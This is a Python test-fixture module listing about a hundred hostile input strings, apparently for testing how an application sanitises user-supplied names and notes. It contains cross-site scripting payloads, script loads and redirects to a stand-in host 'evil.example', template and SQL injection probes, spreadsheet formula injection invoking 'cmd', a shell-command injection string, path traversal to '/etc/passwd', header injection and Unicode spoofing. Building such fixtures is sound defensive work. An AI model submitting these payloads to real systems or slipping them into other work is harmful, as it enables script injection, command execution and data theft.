"""A hundred things that a stranger may write where a name, a licence or a note is asked for."""

from __future__ import annotations

from typing import Final

_ACT: Final = "window.hurt=1;alert(1)"
"""What a script of theirs would do: it leaves a mark that a test sees, and opens a dialog."""

_SCRIPTS = (
    f"<script>{_ACT}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{_ACT}</SCRIPT>",
    f"</script><script>{_ACT}</script>",
    f"</title><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f"</pre></code></table><script>{_ACT}</script>",
    f"</style><script>{_ACT}</script>",
    f"</svg><script>{_ACT}</script>",
    f"--><script>{_ACT}</script><!--",
    f"]]><script>{_ACT}</script><![CDATA[",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<script\x0b>{_ACT}</script\x0b>",
    f"<script>/*</script>*/{_ACT}</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script",
    "<!doctype html><html><body onload=alert(1)>",
)
_HANDLERS = (
    f"<img src=x onerror={_ACT}>",
    f'"><img src=x onerror="{_ACT}">',
    f"'><img src=x onerror='{_ACT}'>",
    f"`><img src=x onerror=`{_ACT}`>",
    f'" onmouseover="{_ACT}" x="',
    f"' onfocus='{_ACT}' autofocus='",
    f'" autofocus onfocus={_ACT} tabindex=1 "',
    f"<svg onload={_ACT}>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_ACT}</script>'></iframe></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={_ACT}></mtext></math>",
    f"<details open ontoggle={_ACT}>",
    f"<video><source onerror={_ACT}></video>",
    f"<body onload={_ACT}>",
    f"<input autofocus onfocus={_ACT}>",
    f"<marquee onstart={_ACT}>",
    "<iframe src='javascript:parent.hurt=1'></iframe>",
    "<object data='javascript:parent.hurt=1'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>Go</button></form>",
    "<a href=//evil.example/>click</a>",
    f"<div hx-get=/ hx-trigger=load hx-on::load='{_ACT}'></div>",
    f"<p hx-on:click='{_ACT}' data-hx-get='//evil.example/'>x</p>",
    "<template><b>x</b></template>",
    "<b>bold</b><i>not</i>",
    "<plaintext>",
    "<!--",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<img src="//evil.example/pixel.gif">',
)
_LINKS = (
    f"javascript:{_ACT}",
    f"JaVaScRiPt:{_ACT}",
    f"java\tscript:{_ACT}",
    f"\x01javascript:{_ACT}",
    f"javascript&colon;{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    "vbscript:msgbox(1)",
    f"[click](javascript:{_ACT})",
    "![pixel](//evil.example/pixel.gif)",
    "//evil.example/",
    "https://evil.example/?a=1&b=2#c",
    "../../../../etc/passwd",
    "..%2f..%2f",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{% include 'layout.html' %}",
    "{%raw%}{{7*7}}{%endraw%}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%s%s%n%d",
    "$(touch /tmp/x)`id`;id|id&&id",
)
_CELLS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("//evil.example/","x")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' =1+1,"x"',
    "a;b,c\"d'e",
    "x\r\nSet-Cookie: hurt=1",
    "%0d%0aLocation:%20//evil.example/",
)
_SIGNS = (
    "\u202egnp.exe",
    "\u2066abc\u2069\u200fdef\u200e",
    "ze\u200bro\u200dwi\u2060dth\ufeff",
    "nul\x00byte",
    "bell\x07esc\x1b[31mred\x1b[0m",
    "\ufffe\uffff\U00010fff",
    "\u2028\u2029lines",
    "Z\u0338\u0321\u0322\u0355\u0324\u0319\u0316\u0318\u0354\u0314\u0308\u0301\u030d\u035da\u0337\u0327\u031b\u033c\u031e\u0326\u0330\u034c\u0304\u0300lgo",
    "＜script＞alert(1)＜/script＞",
    "ＡＢ paypaⅼ",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308",
    "'; DROP TABLE ratings; --",
    "%<>\"'&amp;&lt;&#60;&#x3c;script&gt;",
    "x" * 500,
)

PAYLOADS: Final = (*_SCRIPTS, *_HANDLERS, *_LINKS, *_TEMPLATES, *_CELLS, *_SIGNS)

CALCULATES: Final = tuple("=+-@\t\r\n")
"""What a spreadsheet takes for the beginning of a formula."""
